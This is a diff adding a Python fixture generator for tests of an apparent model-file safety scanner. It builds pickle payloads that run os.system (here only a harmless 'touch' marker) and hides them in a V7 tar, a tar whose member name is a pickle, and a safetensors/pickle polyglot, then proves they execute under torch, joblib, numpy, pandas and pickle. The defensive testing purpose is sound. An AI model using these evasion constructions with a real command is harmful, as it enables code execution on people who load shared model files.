@@ -1,0 +1,114 @@
+"""Fixtures for tests/test_gate_review.py: files an attacker builds from the loaders' own readings.
+
+Run `python tests/data/review/make_review.py` to (re)write them here with the standard library alone;
+`python tests/data/review/make_review.py --prove PYTHON` then loads each malicious one with the real
+loaders listed in LOADERS, under an interpreter that has torch, joblib, numpy and pandas, each in a
+throwaway process in an empty directory, and fails unless the payload creates the marker file there.
+"""
+
+from __future__ import annotations
+
+import io
+import json
+import os
+import pickle
+import struct
+import subprocess
+import sys
+import tarfile
+import tempfile
+from pathlib import Path
+
+HERE = Path(__file__).parent
+MARKER = "modellock-payload-ran"
+COMMAND = f"touch {MARKER}"
+_CALL = b"cposix\nsystem\n(V" + COMMAND.encode() + b"\ntR."
+"""`os.system(COMMAND)` as protocol-0 opcodes: ASCII, so it fits a tar name or a JSON region."""
+
+
+class _Reduce:
+    def __reduce__(self) -> tuple[object, ...]:
+        return (os.system, (COMMAND,))
+
+
+PAYLOAD = pickle.dumps(_Reduce(), protocol=2)
+
+
+def _tar(members: list[tuple[str, bytes]]) -> bytes:
+    buf = io.BytesIO()
+    with tarfile.open(fileobj=buf, mode="w", format=tarfile.USTAR_FORMAT) as archive:
+        for name, data in members:
+            info = tarfile.TarInfo(name)
+            info.size = len(data)
+            archive.addfile(info, io.BytesIO(data))
+    return buf.getvalue()
+
+
+def v7_tar(members: list[tuple[str, bytes]]) -> bytes:
+    """A tar without the `ustar` magic (the V7 layout): `tarfile` reads it by its header checksum."""
+    raw = bytearray(_tar(members))
+    pos = 0
+    while pos + 512 <= len(raw) and raw[pos : pos + 512] != bytes(512):
+        header = raw[pos : pos + 512]
+        size = int(header[124:136].strip(b"\0 ") or b"0", 8)
+        header[257:265] = bytes(8)
+        header[148:156] = b" " * 8
+        header[148:156] = b"%06o\0 " % sum(header)
+        raw[pos : pos + 512] = header
+        pos += 512 + (size + 511) // 512 * 512
+    return bytes(raw)
+
+
+def safetensors_polyglot() -> bytes:
+    """A valid safetensors file whose header length's low byte is `V` (UNICODE: reads to a newline):
+    the JSON ends with a newline and `}` (EMPTY_DICT), and the tensor's bytes are the payload."""
+    for pad in range(256):
+        tensor = {"dtype": "U8", "shape": [len(_CALL)], "data_offsets": [0, len(_CALL)]}
+        header = {"__metadata__": {"p": "x" * pad}, "w": tensor}
+        text = json.dumps(header, separators=(",", ":"))[:-1].encode() + b"\n}"
+        if len(text) & 0xFF == ord("V"):
+            return struct.pack("<Q", len(text)) + text + _CALL
+    raise AssertionError("no padding gives the wanted length")
+
+
+# name -> (bytes, the loaders that run the payload)
+def fixtures() -> dict[str, tuple[bytes, list[str]]]:
+    return {
+        "v7_torch_legacy.tar": (v7_tar([("storages", PAYLOAD), ("tensors", b""), ("pickle", b"")]), ["torch"]),
+        "v7_pandas.pkl.tar": (v7_tar([("df.pkl", PAYLOAD)]), ["pandas"]),
+        "tar_name_is_pickle.joblib": (_tar([(_CALL.decode(), b"abc")]), ["joblib", "numpy", "pickle"]),
+        "safetensors_polyglot.bin": (safetensors_polyglot(), ["torch", "joblib", "numpy", "pickle"]),
+    }
+
+
+LOADERS = {
+    "torch": "import torch,sys; torch.load(sys.argv[1], weights_only=False)",
+    "joblib": "import joblib,sys; joblib.load(sys.argv[1])",
+    "numpy": "import numpy,sys; numpy.load(sys.argv[1], allow_pickle=True)",
+    "pandas": "import pandas,sys; pandas.read_pickle(sys.argv[1])",
+    "pickle": "import pickle,sys; pickle.load(open(sys.argv[1], 'rb'))",
+}
+
+
+def prove(python: str) -> None:
+    for name, (_data, loaders) in fixtures().items():
+        for loader in loaders:
+            with tempfile.TemporaryDirectory() as cwd:
+                command = [python, "-c", LOADERS[loader], str(HERE / name)]
+                subprocess.run(command, cwd=cwd, capture_output=True, timeout=300)
+                ran = (Path(cwd) / MARKER).exists()
+            print(f"{name}: {loader}: {'payload ran' if ran else 'NOT RUN'}")
+            if not ran:
+                raise SystemExit(f"{name} does not run its payload under {loader}")
+
+
+def main() -> None:
+    if sys.argv[1:2] == ["--prove"]:
+        prove(sys.argv[2])
+        return
+    for name, (data, _loaders) in fixtures().items():
+        (HERE / name).write_bytes(data)
+
+
+if __name__ == "__main__":
+    main()
